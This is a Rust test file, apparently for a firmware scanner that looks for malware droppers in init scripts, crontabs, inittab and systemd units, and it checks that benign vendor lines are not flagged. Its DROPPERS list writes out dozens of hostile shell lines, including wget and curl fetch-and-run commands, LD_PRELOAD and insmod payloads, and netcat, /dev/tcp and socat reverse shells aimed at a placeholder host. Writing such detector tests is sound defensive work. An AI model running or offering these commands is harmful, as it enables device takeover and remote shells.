//! What droppers write into start entries, and what firmwares do.

use super::*;

#[track_caller]
fn certain(path: &str, text: &str) -> Vec<bool> {
    look(path, text.as_bytes())
        .iter()
        .map(|found| found.certain)
        .collect()
}

/// Each must fail, in a script and in the tables that start things.
const DROPPERS: &[&str] = &[
    "wget -q http://192.0.2.9/b -O /tmp/x; sh /tmp/x",
    "cd /tmp; wget http://192.0.2.9/b; sh b",
    "cd /tmp && wget http://192.0.2.9/b -O y && chmod 777 y && ./y",
    "curl http://192.0.2.9/b|/bin/sh",
    "curl -s http://192.0.2.9/b | busybox sh",
    "wget -qO- http://192.0.2.9/b | base64 -d | sudo sh -s x",
    "sh -c \"$(curl -s http://192.0.2.9/b)\"",
    "eval `wget -qO - http://192.0.2.9/b`",
    "$(curl -s http://192.0.2.9/b)",
    "bash <(curl -s http://192.0.2.9/b)",
    "sh -c 'wget http://192.0.2.9/b -O /tmp/x; /tmp/x'",
    "wget -O - http://192.0.2.9/b > /data/y; sh /data/y",
    "wget -O /data/y http://192.0.2.9/b; . /data/y",
    "wget -P /data http://192.0.2.9/y; /data/y",
    "curl -so /data/y http://192.0.2.9/b; /data/y",
    "cd /data; curl -O http://192.0.2.9/y; ./y",
    "tftp -g -r y -l /tmp/y 192.0.2.9; /tmp/y",
    "cd /var; tftp -g -r y 192.0.2.9; sh y",
    "ftpget -u a -p b 192.0.2.9 /data/y y; sh /data/y",
    "nc 192.0.2.9 99 > /data/y; sh /data/y",
    "nc 192.0.2.9 99 | sh",
    "wget http://192.0.2.9/e.ko -O /tmp/e.ko; insmod /tmp/e.ko",
    "wget http://192.0.2.9/e.so -O /data/e.so; LD_PRELOAD=/data/e.so /usr/bin/x",
    "wget -O /data/y.gz http://192.0.2.9/y.gz; cp /data/y.gz /data/z; nohup /data/z &",
    "wget -O- http://192.0.2.9/y.tgz | tar xz -C /data; /data/y",
    "wget http://192.0.2.9/y -O /data/y; chmod +x /data/y",
    "D=/data; wget -O $D/y http://192.0.2.9/y; ${D}/y",
    "GET='wget -q'; $GET http://192.0.2.9/y -O /tmp/y; /tmp/y",
    "sh -c \"/tmp/y\"",
    "nohup setsid /tmp/y",
    "busybox sh /tmp/y",
    "/bin/busybox nohup sh /dev/shm/y >/dev/null 2>&1 &",
    "start-stop-daemon -S -x /tmp/y",
    "start-stop-daemon -S -b --exec /run/y",
    "insmod /tmp/evil.ko",
    "LD_PRELOAD=/tmp/evil.so x",
    "env LD_PRELOAD=/tmp/evil.so x",
    "export LD_PRELOAD=/tmp/evil.so",
    "/lib/ld-linux.so.3 /tmp/y",
    "/tmp/busybox wget x",
    "sh < /tmp/y",
    "nc 192.0.2.9 99 -e /bin/sh",
    "busybox nc -e /bin/sh 192.0.2.9 99",
    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.9 99 >/tmp/f",
    "bash -i >& /dev/tcp/192.0.2.9/99 0>&1",
    "socat TCP:192.0.2.9:99 EXEC:/bin/sh",
];

#[test]
fn droppers_are_found_wherever_they_stand() {
    for line in DROPPERS {
        for (path, text) in [
            ("/etc/init.d/S99x", format!("#!/bin/sh\n{line}\n")),
            ("/etc/crontabs/root", format!("*/5 * * * * {line}\n")),
            ("/etc/cron.d/x", format!("@reboot root {line}\n")),
            ("/etc/inittab", format!("::sysinit:{line}\n")),
            (
                "/etc/systemd/system/x.service",
                format!("[Service]\nExecStart=-{line}\n"),
            ),
        ] {
            let found = certain(path, &text);
            assert!(found.contains(&true), "{path}: {text}");
            let placed = look(path, text.as_bytes());
            let at = if path.contains("crontab") || path.contains("cron.d") || path.contains("inittab") {
                1
            } else {
                2
            };
            assert!(placed.iter().all(|found| found.line >= at), "{placed:?}");
        }
        // One command a line.
        if !line.contains(['\'', '"']) {
            let text = line.replace("; ", "\n").replace(" && ", "\n");
            assert!(certain("/etc/init.d/S99x", &text).contains(&true), "{text}");
        }
    }
    let unit = "[Service]\nEnvironment=\"LD_PRELOAD=/tmp/e.so\"\nExecStart=/usr/bin/x\n";
    assert!(certain("/etc/systemd/system/x.service", unit).contains(&true));
    let unit = "ExecStartPre=/usr/bin/wget -O /data/y http://192.0.2.9/y\nExecStart=/data/y\n";
    assert!(certain("/etc/systemd/system/x.service", unit).contains(&true));
    let table = "1 * * * * wget -O /data/y http://192.0.2.9/y\n2 * * * * sh /data/y\n";
    assert!(certain("/etc/crontabs/root", table).contains(&true));
}

#[test]
fn what_firmwares_do_is_doubtful_at_most() {
    for text in [
        "cp /usr/bin/x /tmp/x; /tmp/x",
        "cp /usr/bin/x /tmp/; chmod +x /tmp/x; /tmp/x &",
        "cat /usr/share/x >/tmp/x.sh\nsh /tmp/x.sh",
        "tar xzf /usr/share/app.tgz -C /tmp\n/tmp/app/run",
        "cp /lib/modules/x.ko /tmp/x.ko; insmod /tmp/x.ko",
        "echo 'A=1' > /tmp/env; . /tmp/env",
    ] {
        assert_eq!(certain("/etc/init.d/S50x", text), [false], "{text}");
    }
    for text in [
        "wget -q --spider http://192.0.2.1/ && echo up",
        "wget -O /dev/null http://192.0.2.1/",
        "IP=$(wget -qO- http://192.0.2.1/); echo $IP",
        "curl -s http://192.0.2.1/ | grep -q ok && /usr/bin/x",
        "wget -O /etc/hosts.block http://192.0.2.1/hosts",
        "wget -O /tmp/fw.bin http://192.0.2.1/fw; /usr/sbin/flash /tmp/fw.bin",
        "nc -ll -p 40000 -e /bin/sh",
        "# wget -O /tmp/x http://192.0.2.9/x; sh /tmp/x",
        "case $1 in\n/tmp/*) echo x ;;\nesac",
        "start-stop-daemon -K -x /tmp/x",
        "sh /tmp/sd/x.sh",
        "echo /tmp/x >/proc/sys/kernel/hotplug",
        "mkdir -p /tmp/x /var/run; [ -x /tmp/x ] || echo no",
        "/usr/sbin/daemon -c /tmp/daemon.conf",
        "LD_LIBRARY_PATH=/tmp/lib /usr/bin/x",
    ] {
        assert!(
            certain("/etc/init.d/S50x", text).is_empty(),
            "{text}: {:?}",
            look("/x", text.as_bytes())
        );
    }
}

#[test]
fn nothing_but_the_host_is_quoted() {
    let text = "wget --password=geheim http://u:geheim@192.0.2.1/geheim -O /tmp/x; sh /tmp/x geheim";
    let found = look("/etc/crontabs/root", format!("1 1 * * * {text}").as_bytes());
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].text, "fetches and runs: `wget` from 192.0.2.1");
}

proptest::proptest! {
    #[test]
    fn no_script_makes_it_panic(
        bytes in proptest::collection::vec(0..=255u8, 0..300),
        text in "(wget |curl |sh |-c |-O |/tmp/x|[$(){}`'\"<>|&;#\\\\\n =]|cd |tar |nc |-e ){0,40}",
    ) {
        for path in ["/x", "/etc/crontabs/root", "/etc/inittab", "/etc/systemd/system/x.service"] {
            let _ = look(path, &bytes);
            let _ = look(path, text.as_bytes());
        }
    }
}

/// What is as bad as can be, as long as what is read; what is random four times as long.
fn hostile() -> Vec<Vec<u8>> {
    const LENGTH: usize = lenscap_harden::root::MAX_TEXT_BYTES;
    const SIGNS: &[u8] = b"$(){}`'\"\\<>|&;#\n\0 =.-/aAscdwget";
    let value = format!("A={}\n", "x".repeat(MAX_WORD));
    let mut texts: Vec<Vec<u8>> = [
        "\0",
        "$(",
        "`",
        "(",
        ")",
        "'",
        "\"",
        "\\",
        "|",
        "&>",
        "<(",
        "$",
        "${",
        "a ",
        "$A",
        "$A ",
        "x\n",
        "#\0",
        "sh -c '",
        "$(sh $(",
        "cp a b $A ",
        "/tmp/x;",
        "wget $A;chmod +x a;",
        "A=$A$A;",
        "eval $A;",
        "wget -O /a/$A x;",
        ". $(wget x);",
    ]
    .iter()
    .flat_map(|part| {
        let all = part.repeat(LENGTH / part.len());
        [
            all.clone(),
            format!("{value}{all}"),
            format!("cp {all}"),
            format!("eval {all}"),
            format!("sh -c \"{all}"),
        ]
    })
    .map(String::into_bytes)
    .collect();
    let names = |n: usize| {
        format!("V{n}=/tmp/{n}; wget -O /tmp/{n} http://x/{n}; chmod +x /tmp/{n}; cp /tmp/{n} /{n}\n")
    };
    texts.push((0..12_000).map(names).collect::<String>().into_bytes());
    // Random bytes, and random ones of those that mean something.
    let (mut random, mut signs) = (Vec::new(), Vec::new());
    let mut state = 1u32;
    for _ in 0..4 * LENGTH {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        random.push((state >> 8) as u8);
        signs.push(SIGNS[(state >> 8) as usize % SIGNS.len()]);
    }
    texts.extend([random, signs]);
    texts
}

#[test]
fn hostile_scripts_end_soon() {
    for text in hostile() {
        for path in ["/x", "/etc/crontabs/root"] {
            let started = std::time::Instant::now();
            let found = look(path, &text);
            let shown = String::from_utf8_lossy(&text[..40]).into_owned();
            // Without optimisation, on a busy machine.
            assert!(
                started.elapsed().as_secs() < 20,
                "{shown}: {:?}",
                started.elapsed()
            );
            assert!(found.len() <= MAX_NAMES + 1, "{shown}");
        }
    }
}

#[test]
fn what_is_beyond_a_bound_is_doubtful() {
    let deep = format!(
        "{}wget -qO- http://192.0.2.9/b | sh{}",
        "$(".repeat(9),
        ")".repeat(9)
    );
    let many = "x\n".repeat(MAX_COMMANDS) + "wget -qO- http://192.0.2.9/b | sh";
    let names = (0..=MAX_NAMES).map(|n| format!("V{n}=x\n")).collect();
    let long = format!("A={}", "x".repeat(MAX_WORD + 1));
    for text in [deep, many, names, long] {
        assert_eq!(certain("/etc/init.d/S50x", &text), [false]);
    }
    // NUL is nothing to a shell.
    assert_eq!(certain("/x", "wget -qO- http://192.0.2.9/b |\0 s\0h"), [true]);
}
